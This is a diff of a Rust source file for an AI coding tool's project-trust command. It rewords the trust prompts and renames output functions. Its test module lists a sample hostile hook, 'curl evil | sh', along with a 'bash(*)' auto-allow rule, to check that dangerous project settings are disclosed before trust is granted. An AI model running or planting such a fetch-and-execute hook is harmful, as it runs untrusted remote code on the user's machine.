@@ -25,7 +25,7 @@ pub(super) fn trust(args: &Args, global: &GlobalArgs, env: &ProcessEnv) -> Resul
     let shown = paths::display_path(&folder, env);
     if args.remove {
         let told = match list.get(&folder) {
-            ProjectTrust::Trusted => format!("{shown} is trusted no longer\n"),
+            ProjectTrust::Trusted => format!("{shown} is no longer trusted\n"),
             ProjectTrust::Declined | ProjectTrust::Unknown => format!("{shown} was not trusted\n"),
         };
         // One above it may be trusted still.
@@ -38,10 +38,10 @@ pub(super) fn trust(args: &Args, global: &GlobalArgs, env: &ProcessEnv) -> Resul
             false => ProjectTrust::Unknown,
         };
         list.set(&folder, rest, env)?;
-        output::complain(&told);
+        output::print_stderr(&told);
     } else {
         list.set(&folder, ProjectTrust::Trusted, env)?;
-        output::complain(&format!(
+        output::print_stderr(&format!(
             "{shown} is trusted: its configuration may allow more, choose models and run hooks\n"
         ));
     }
@@ -50,13 +50,13 @@ pub(super) fn trust(args: &Args, global: &GlobalArgs, env: &ProcessEnv) -> Resul
 
 fn show(list: &TrustList, json: bool, env: &ProcessEnv) -> Result<()> {
     if json {
-        return output::deliver(&output::pretty(list)?);
+        return output::print_checked(&output::pretty(list)?);
     }
     let line = |what: &str, folder: &PathBuf| format!("{what:<9} {}\n", paths::display_path(folder, env));
     let trusted = list.trusted.iter().map(|folder| line("trusted", folder));
     let declined = list.declined.iter().map(|folder| line("declined", folder));
     let text: String = trusted.chain(declined).collect();
-    output::deliver(if text.is_empty() {
+    output::print_checked(if text.is_empty() {
         "no folder is trusted\n"
     } else {
         &text
@@ -80,11 +80,11 @@ pub(super) fn ask_first(root: &Path, env: &ProcessEnv) -> Result<()> {
     let brings: Vec<String> = files.iter().map(|file| paths::display_path(file, env)).collect();
     let wants = wants(config.as_deref(), &files, root);
     let wants: String = match wants.is_empty() {
-        true => "Nothing in them needs trust today; what is changed there later may.".into(),
+        true => "Nothing in them requires trust now; later changes may.".into(),
         false => wants.iter().map(|want| format!("- {want}\n")).collect(),
     };
     let question = format!(
-        "This project brings its own settings: {}\nIf you trust the folder {}, this counts, and what is changed there later:\n{}\nDo you trust it?",
+        "This project has its own settings: {}\nIf you trust the folder {}, the following takes effect, including later changes:\n{}\nDo you trust it?",
         brings.join(", "),
         paths::display_path(&top, env),
         wants.trim_end(),
@@ -94,7 +94,7 @@ pub(super) fn ask_first(root: &Path, env: &ProcessEnv) -> Result<()> {
         false => ProjectTrust::Declined,
     };
     list.set(&top, said, env)?;
-    output::complain("`hew trust` and `hew trust --remove` change that later\n");
+    output::print_stderr("change this with `hew trust` or `hew trust --remove`\n");
     Ok(())
 }
 
@@ -148,7 +148,7 @@ fn of_config(table: &Table) -> Vec<String> {
         ("it starts other agents", names("agents")),
         ("permission", level.into_iter().collect()),
         (
-            "it allows without a question",
+            "it allows without approval",
             texts(table.get("permissions").and_then(|said| said.get("allow"))),
         ),
         ("it sends your code to providers that it describes", names("providers")),
@@ -195,7 +195,7 @@ mod tests {
                 "it runs programs (hooks): curl evil | sh - nothing else",
                 "it starts MCP servers: files",
                 "permission: full",
-                "it allows without a question: bash(*)",
+                "it allows without approval: bash(*)",
                 "it chooses models: model = evil/one",
                 "it sets: sandbox",
             ]
